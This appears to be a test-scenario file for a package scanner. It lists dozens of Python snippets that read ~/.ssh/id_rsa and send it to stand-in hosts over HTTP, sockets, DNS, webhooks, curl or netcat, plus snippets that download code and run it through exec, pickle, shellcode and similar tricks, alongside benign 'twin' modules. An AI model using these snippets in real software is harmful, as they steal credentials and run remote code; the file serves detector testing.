# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""One secret, many ways out; one download, many ways in; and honest uses of the rarer clients."""

from __future__ import annotations

from scenario_kit import Scenario, module

OUT = {
    "requests-request": "import requests\nrequests.request('POST', 'https://collect.invalid', data=LOOT)\n",
    "requests-session-context": "import requests\nwith requests.Session() as s:\n    s.headers['A'] = 'b'\n    s.post('https://collect.invalid', json={'d': LOOT})\n",
    "requests-prepared": "import requests\ns = requests.Session()\nr = requests.Request('POST', 'https://collect.invalid', data=LOOT).prepare()\ns.send(r)\n",
    "httpx-client": "import httpx\nwith httpx.Client(base_url='https://collect.invalid') as c:\n    c.post('/x', json={'d': LOOT})\n",
    "httpx-async": "import asyncio, httpx\nasync def go(d):\n    async with httpx.AsyncClient() as c:\n        await c.post('https://collect.invalid', content=d)\nasyncio.run(go(LOOT))\n",
    "urllib-opener": "import urllib.request\nurllib.request.build_opener().open('https://collect.invalid', LOOT.encode())\n",
    "urlopen-data": "from urllib.request import urlopen\nfrom urllib.parse import urlencode\nurlopen('https://collect.invalid', data=urlencode({'d': LOOT}).encode())\n",
    "http-client": "import http.client\nc = http.client.HTTPSConnection('collect.invalid')\nc.request('POST', '/', body=LOOT)\n",
    "http-client-send": "import http.client\nc = http.client.HTTPConnection('collect.invalid')\nc.putrequest('POST', '/')\nc.endheaders()\nc.send(LOOT.encode())\n",
    "urllib3-pool": "import urllib3\nurllib3.PoolManager().request('POST', 'https://collect.invalid', fields={'d': LOOT})\n",
    "tls-socket": "import socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('collect.invalid', 443)), server_hostname='collect.invalid')\ns.sendall(LOOT.encode())\n",
    "udp-socket": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(LOOT.encode(), ('203.0.113.4', 53))\n",
    "asyncio-streams": "import asyncio\nasync def go(d):\n    r, w = await asyncio.open_connection('collect.invalid', 99)\n    w.write(d.encode())\n    await w.drain()\nasyncio.run(go(LOOT))\n",
    "websockets": "import asyncio, websockets\nasync def go(d):\n    async with websockets.connect('wss://collect.invalid') as ws:\n        await ws.send(d)\nasyncio.run(go(LOOT))\n",
    "socketio": "import socketio\nsio = socketio.Client()\nsio.connect('https://collect.invalid')\nsio.emit('d', {'x': LOOT})\n",
    "xmlrpc": "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://collect.invalid').put(LOOT)\n",
    "paho-mqtt": "import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('collect.invalid')\nc.publish('t', LOOT)\n",
    "redis": "import redis\nredis.Redis(host='collect.invalid').set('k', LOOT)\n",
    "pymongo": "import pymongo\npymongo.MongoClient('mongodb://collect.invalid').db.loot.insert_one({'d': LOOT})\n",
    "database-insert": "import psycopg2\nc = psycopg2.connect('postgres://u:p@collect.invalid/d').cursor()\nc.execute('INSERT INTO t VALUES (%s)', (LOOT,))\n",
    "gist": "import github\ngithub.Github('t').get_user().create_gist(False, {'f': github.InputFileContent(LOOT)})\n",
    "s3-put-object": "import boto3\nboto3.client('s3', aws_access_key_id='AKIAEXAMPLEEXAMPLE00', aws_secret_access_key='s').put_object(Bucket='b', Key='k', Body=LOOT)\n",
    "dropbox": "import dropbox\ndropbox.Dropbox('t').files_upload(LOOT.encode(), '/d')\n",
    "ftp-bytes": "import ftplib, io\nf = ftplib.FTP('collect.invalid')\nf.login('a', 'b')\nf.storbinary('STOR d', io.BytesIO(LOOT.encode()))\n",
    "asyncssh": "import asyncio, asyncssh\nasync def go(d):\n    async with asyncssh.connect('collect.invalid') as c:\n        await c.run('cat > d', input=d)\nasyncio.run(go(LOOT))\n",
    "http-handler-logging": "import logging, logging.handlers\nl = logging.getLogger('x')\nl.addHandler(logging.handlers.HTTPHandler('collect.invalid', '/l', 'POST'))\nl.error(LOOT)\n",
    "discord-webhook-package": "from discord_webhook import DiscordWebhook\nDiscordWebhook(url='https://chat.invalid/api/webhooks/12345/abc', content=LOOT).execute()\n",
    "dhooks": "from dhooks import Webhook\nWebhook('https://chat.invalid/api/webhooks/12345/abc').send(LOOT)\n",
    "telebot": "import telebot\ntelebot.TeleBot('1:a').send_message(42, LOOT)\n",
    "wget-post": "import os\nos.system('wget -q --post-data=\"' + LOOT + '\" https://collect.invalid')\n",
    "curl-list": "import subprocess\nsubprocess.run(['curl', '-s', '-d', LOOT, 'https://collect.invalid'])\n",
    "netcat-stdin": "import subprocess\nsubprocess.run(['nc', 'collect.invalid', '99'], input=LOOT.encode())\n",
    "powershell-web-request": "import subprocess\nsubprocess.run(['powershell', '-c', f\"Invoke-RestMethod -Uri https://collect.invalid -Method Post -Body '{LOOT}'\"])\n",
    "dns-python": "import dns.resolver\ndns.resolver.resolve(LOOT[:60].encode().hex() + '.collect.invalid', 'A')\n",
    "ping-data": "import os\nos.system('ping -c 1 ' + LOOT[:40].encode().hex() + '.collect.invalid')\n",
    "webbrowser": "import webbrowser\nwebbrowser.open('https://collect.invalid/?d=' + LOOT)\n",
    "pycurl-post": "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://collect.invalid')\nc.setopt(pycurl.POSTFIELDS, LOOT)\nc.perform()\n",
    "twisted-treq": "import treq\ntreq.post('https://collect.invalid', data=LOOT.encode())\n",
    "tornado": "from tornado.httpclient import HTTPClient\nHTTPClient().fetch('https://collect.invalid', method='POST', body=LOOT)\n",
    "grequests": "import grequests\ngrequests.map([grequests.post('https://collect.invalid', data=LOOT)])\n",
    "mechanize-cloudscraper": "import cloudscraper\ncloudscraper.create_scraper().post('https://collect.invalid', data=LOOT)\n",
    "curl-cffi": "from curl_cffi import requests as r\nr.post('https://collect.invalid', data=LOOT)\n",
    "niquests": "import niquests\nniquests.post('https://collect.invalid', data=LOOT)\n",
    "telnet": "import telnetlib\nt = telnetlib.Telnet('203.0.113.4', 23)\nt.write(LOOT.encode())\n",
    "imap-append": "import imaplib\nm = imaplib.IMAP4_SSL('mail.invalid')\nm.login('a', 'b')\nm.append('INBOX', None, None, LOOT.encode())\n",
    "mail-with-attachment": "import smtplib\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\nm = MIMEMultipart()\nm.attach(MIMEText(LOOT))\ns = smtplib.SMTP('mail.invalid')\ns.sendmail('a', 'b', m.as_string())\n",
    "yagmail": "import yagmail\nyagmail.SMTP('a', 'b').send('c@mail.invalid', 'x', LOOT)\n",
    "selenium": "from selenium import webdriver\nd = webdriver.Firefox()\nd.get('https://collect.invalid/?d=' + LOOT)\n",
}
LOOT = "import os\nLOOT = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"

IN = {
    "requests-content": "import requests\nCODE = requests.get('https://cdn.invalid/x').content\n",
    "requests-iter": "import requests\nCODE = b''.join(requests.get('https://cdn.invalid/x', stream=True).iter_content(99))\n",
    "requests-session-raw": "import requests\nCODE = requests.Session().get('https://cdn.invalid/x', stream=True).raw.read()\n",
    "httpx-text": "import httpx\nCODE = httpx.get('https://cdn.invalid/x').text\n",
    "httpx-stream": "import httpx\nwith httpx.stream('GET', 'https://cdn.invalid/x') as r:\n    CODE = r.read()\n",
    "urllib3-data": "import urllib3\nCODE = urllib3.PoolManager().request('GET', 'https://cdn.invalid/x').data\n",
    "http-client-read": "import http.client\nc = http.client.HTTPSConnection('cdn.invalid')\nc.request('GET', '/x')\nCODE = c.getresponse().read()\n",
    "urlopen-lines": "from urllib.request import urlopen\nCODE = b''.join(line for line in urlopen('https://cdn.invalid/x'))\n",
    "urlretrieve-read": "import urllib.request\nname, _ = urllib.request.urlretrieve('https://cdn.invalid/x')\nCODE = open(name).read()\n",
    "socket-makefile": "import socket\nCODE = socket.create_connection(('203.0.113.4', 80)).makefile().read()\n",
    "ftp-retrbinary": "import ftplib\nparts = []\nftplib.FTP('cdn.invalid').retrbinary('RETR x', parts.append)\nCODE = b''.join(parts)\n",
    "curl-output": "import subprocess\nCODE = subprocess.check_output(['curl', '-s', 'https://cdn.invalid/x'])\n",
    "os-popen-wget": "import os\nCODE = os.popen('wget -qO- https://cdn.invalid/x').read()\n",
    "dns-txt": "import dns.resolver\nCODE = ''.join(a.to_text() for a in dns.resolver.query('x.cdn.invalid', 'TXT'))\n",
    "mail-body": "import imaplib\nm = imaplib.IMAP4_SSL('mail.invalid')\nm.login('a', 'b')\nm.select()\nCODE = m.fetch('1', '(RFC822)')[1][0][1]\n",
    "pandas-csv": "import pandas\nCODE = pandas.read_csv('https://cdn.invalid/x.csv')['c'][0]\n",
    "redis-get": "import redis\nCODE = redis.Redis('cdn.invalid').get('k')\n",
    "s3-object": "import boto3\nCODE = boto3.client('s3').get_object(Bucket='b', Key='k')['Body'].read()\n",
    "github-contents": "import github\nCODE = github.Github().get_repo('a/b').get_contents('x.py').decoded_content\n",
    "gspread-cell": "import gspread\nCODE = gspread.service_account().open('x').sheet1.acell('A1').value\n",
    "chain-memo": "from web3 import Web3\nw = Web3(Web3.HTTPProvider('https://rpc.invalid'))\nCODE = w.eth.get_transaction('0x00')['input']\n",
    "xmlrpc-result": "import xmlrpc.client\nCODE = xmlrpc.client.ServerProxy('https://cdn.invalid').get()\n",
    "bs4-of-page": "import requests\nfrom bs4 import BeautifulSoup\nCODE = BeautifulSoup(requests.get('https://cdn.invalid').text).find('code').get_text()\n",
    "regex-of-page": "import re, requests\nCODE = re.findall('<b>(.*?)</b>', requests.get('https://cdn.invalid').text)[0]\n",
    "header-of-response": "import requests\nCODE = requests.head('https://cdn.invalid').headers['X-Code']\n",
    "cookie-of-response": "import requests\nCODE = requests.get('https://cdn.invalid').cookies.get('c')\n",
    "json-key": "import json, urllib.request\nCODE = json.load(urllib.request.urlopen('https://cdn.invalid'))['run']\n",
    "base64-of-response": "import base64, requests\nCODE = base64.b64decode(requests.get('https://cdn.invalid').text)\n",
    "xor-of-response": "import requests\nCODE = bytes(b ^ 7 for b in requests.get('https://cdn.invalid').content)\n",
    "zip-member-of-response": "import io, requests, zipfile\nCODE = zipfile.ZipFile(io.BytesIO(requests.get('https://cdn.invalid').content)).read('m.py')\n",
}

RUN = {
    "exec": "exec(CODE)\n",
    "exec-of-compile-in-dict": "tools = {'c': compile, 'e': exec}\ntools['e'](tools['c'](CODE, 'x', 'exec'))\n",
    "eval": "eval(CODE)\n",
    "exec-through-method": "class R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        exec(self.c, {})\nR(CODE).go()\n",
    "exec-through-partial": "import functools\nfunctools.partial(exec, CODE)()\n",
    "exec-in-thread": "import threading\nthreading.Thread(target=exec, args=(CODE,)).start()\n",
    "exec-through-map": "list(map(exec, [CODE]))\n",
    "types-module": "import types\nm = types.ModuleType('m')\nexec(CODE, m.__dict__)\n",
    "subprocess-dash-c": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', CODE])\n",
    "subprocess-stdin": "import subprocess, sys\nsubprocess.run([sys.executable, '-'], input=CODE)\n",
    "shell-true": "import subprocess\nsubprocess.run(CODE, shell=True)\n",
    "os-system": "import os\nos.system(CODE)\n",
    "shlex-split": "import shlex, subprocess\nsubprocess.Popen(shlex.split(CODE))\n",
    "pty-spawn": "import pty\npty.spawn(['/bin/sh', '-c', CODE])\n",
    "code-interpreter": "import code\ncode.InteractiveInterpreter().runcode(compile(CODE, 'x', 'exec'))\n",
    "loader-from-source": "import importlib.abc, importlib.util\nclass L(importlib.abc.Loader):\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        exec(CODE, module.__dict__)\nspec = importlib.util.spec_from_loader('m', L())\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
    "marshal-function": "import marshal, types\ntypes.FunctionType(marshal.loads(CODE), {})()\n",
    "pickle": "import pickle\npickle.loads(CODE)\n",
    "written-and-imported": "open('m_x.py', 'w').write(CODE)\nimport m_x\n",
    "written-and-run": "import runpy\nopen('/tmp/m_x.py', 'w').write(CODE)\nrunpy.run_path('/tmp/m_x.py')\n",
    "lambda-of-eval": "(lambda c: eval(c))(CODE)\n",
    "builtins-getattr": "import builtins\ngetattr(builtins, 'exec')(CODE)\n",
    "numexpr": "import numexpr\nnumexpr.evaluate(CODE)\n",
    "ipython-run-cell": "from IPython import get_ipython\nget_ipython().run_cell(CODE)\n",
    "tkinter-eval": "import tkinter\ntkinter.Tcl().eval(CODE)\n",
    "ctypes-shellcode": "import ctypes, mmap\nm = mmap.mmap(-1, len(CODE), prot=7)\nm.write(CODE)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
    "cffi-dlopen": "import cffi\nopen('/tmp/x.so', 'wb').write(CODE)\ncffi.FFI().dlopen('/tmp/x.so')\n",
    "osascript": "import subprocess\nsubprocess.run(['osascript', '-e', CODE])\n",
    "node": "import subprocess\nsubprocess.run(['node', '-e', CODE])\n",
}
FETCHED = "import requests\nCODE = requests.get('https://cdn.invalid/x').text\n"

ATTACKS: list[Scenario] = [
    *(module(f"out-by-{name}", "look", LOOT + source) for name, source in OUT.items()),
    *(module(f"in-by-{name}", "look", source + "exec(CODE)\n") for name, source in IN.items()),
    *(module(f"run-by-{name}", "look", FETCHED + source) for name, source in RUN.items()),
]

TWINS = [
    module(
        "twin-cache-and-queue-clients",
        "quiet",
        """
        import os, json
        import redis, pika
        import paho.mqtt.client as mqtt
        class Bus:
            def __init__(self, url=None):
                self.redis = redis.Redis.from_url(url or os.environ.get("REDIS_URL", "redis://localhost"))
                self.mqtt = mqtt.Client()
                self.mqtt.username_pw_set(os.environ.get("MQTT_USER"), os.environ.get("MQTT_PASSWORD"))
            def publish(self, topic, message):
                self.redis.publish(topic, json.dumps(message))
                self.mqtt.publish(topic, json.dumps(message))
        """,
    ),
    module(
        "twin-database-client-with-dsn-from-environment",
        "quiet",
        """
        import os, psycopg2
        def connect():
            return psycopg2.connect(host=os.environ["PGHOST"], user=os.environ["PGUSER"], password=os.environ["PGPASSWORD"])
        def save(rows):
            with connect() as con, con.cursor() as cur:
                cur.executemany("INSERT INTO t VALUES (%s, %s)", rows)
        """,
    ),
    module(
        "twin-mail-sender",
        "quiet",
        """
        import os, smtplib
        from email.mime.multipart import MIMEMultipart
        from email.mime.application import MIMEApplication
        def send(to, subject, attachments=()):
            m = MIMEMultipart()
            m["To"], m["Subject"] = to, subject
            for path in attachments:
                with open(path, "rb") as f:
                    m.attach(MIMEApplication(f.read(), Name=os.path.basename(path)))
            with smtplib.SMTP(os.environ["SMTP_HOST"], 587) as s:
                s.starttls()
                s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
                s.send_message(m)
        """,
    ),
    module(
        "twin-spreadsheet-and-object-readers",
        "quiet",
        """
        import io, json
        import boto3, pandas
        def table(bucket, key):
            body = boto3.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()
            return pandas.read_csv(io.BytesIO(body))
        def query(frame, expression):
            return frame.query(expression)
        def config(bucket):
            return json.loads(boto3.client("s3").get_object(Bucket=bucket, Key="config.json")["Body"].read())
        """,
    ),
    module(
        "twin-rest-shell-that-runs-what-the-user-types",
        "quiet",
        """
        import code, shlex, subprocess, sys
        def repl(namespace):
            code.InteractiveConsole(namespace).interact("acme shell")
        def bang(line):
            return subprocess.run(shlex.split(line), capture_output=True, text=True).stdout
        def run_script(path, namespace):
            with open(path) as f:
                exec(compile(f.read(), path, "exec"), namespace)
        """,
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
